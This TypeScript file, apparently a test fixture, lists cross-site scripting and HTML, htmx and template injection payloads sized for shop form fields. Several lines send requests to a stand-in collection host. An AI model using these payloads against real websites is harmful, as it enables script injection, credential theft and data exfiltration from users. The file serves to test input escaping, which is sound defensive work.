// Texts that run a script if any page takes them for more than text. What runs calls `pwned`; whatever element or
// attribute comes of one carries the mark.

/** Each fits the shortest names that a shop gives: sixty characters. */
export const payloads: readonly string[] = [
  // Elements
  '<script data-pwned>pwned(1)</script>',
  '</script><script data-pwned>pwned(2)</script>',
  '<img data-pwned src=x onerror=pwned(3)>',
  '<svg data-pwned onload=pwned(4)>',
  '<svg data-pwned><script>pwned(5)</script></svg>',
  '<svg data-pwned><animate onbegin=pwned(6) dur=1s>',
  '<iframe data-pwned srcdoc="<script>pwned(7)</script>">',
  '<details data-pwned open ontoggle=pwned(8)>',
  '<video data-pwned><source onerror=pwned(9)></video>',
  '<input data-pwned autofocus onfocus=pwned(10)>',
  '<math data-pwned><mtext><img src=x onerror=pwned(11)>',
  '<template data-pwned><img src=x onerror=pwned(12)>',
  '<base data-pwned href=https://collect.example/13/>',
  '<link data-pwned rel=stylesheet href=//collect.example/14>',
  '<meta data-pwned http-equiv=refresh content=0;url=/login>',
  '<img data-pwned src=https://collect.example/16>',
  '<form data-pwned action=//collect.example/17><button>',
  '<object data-pwned data=javascript:pwned(18)>',
  // Out of an element whose text is all text, and out of a comment
  '</title><img data-pwned src=x onerror=pwned(19)>',
  '</textarea><img data-pwned src=x onerror=pwned(20)>',
  '--><img data-pwned src=x onerror=pwned(21)><!--',
  // Out of an attribute, in each kind of quotes and in none
  '"><img data-pwned src=x onerror=pwned(22)>',
  "'><img data-pwned src=x onerror=pwned(23)>",
  '" data-pwned autofocus onfocus="pwned(24)',
  "' data-pwned autofocus onfocus='pwned(25)",
  'x data-pwned autofocus onfocus=pwned(26) y=',
  '" data-pwned style="background:url(//collect.example/27)',
  // Addresses
  'javascript:pwned(28)//',
  ' java\u00adscript:pwned(29)',
  'data:text/html,<script data-pwned>pwned(30)</script>',
  '//collect.example/31',
  // htmx
  '<b data-pwned hx-get=/login hx-trigger=load hx-target=body>',
  '" data-pwned hx-on:htmx:load="pwned(33)',
  '<b data-pwned hx-on::load=pwned(34)>',
  'js:{"a":pwned(35)}',
  // JSON within an attribute or a script, templates, sentences, styles
  '"}\'};pwned(36);//',
  '\\u003cimg data-pwned src=x onerror=pwned(37)\\u003e',
  '&lt;img data-pwned src=x onerror=pwned(38)&gt;',
  '{{pwned(39)}}{% include "web/layout.html" %}${pwned(39)}',
  '{ $value }</style><style data-pwned>*{color:red}</style>',
];

/** Those that fit a house number. */
export const short: readonly string[] = [
  '<svg/onload=pwned(41)>',
  "'onfocus=pwned(42) a='",
  '"onfocus=pwned(43) a="',
  'javascript:pwned(44)',
  '{{pwned(45)}}${pwned(45)}',
];

/** Before the @ stands no bracket and no quotation mark. */
export const localParts: readonly string[] = ["'onfocus='pwned`46`'", '{{pwned`47`}}', '${pwned`48`}', '=pwned`49`|`x`'];

/** The one for a number, round and round. */
export function nth(list: readonly string[], number: number): string {
  const found = list[number % list.length];
  if (found === undefined) throw new Error('an empty list');
  return found;
}
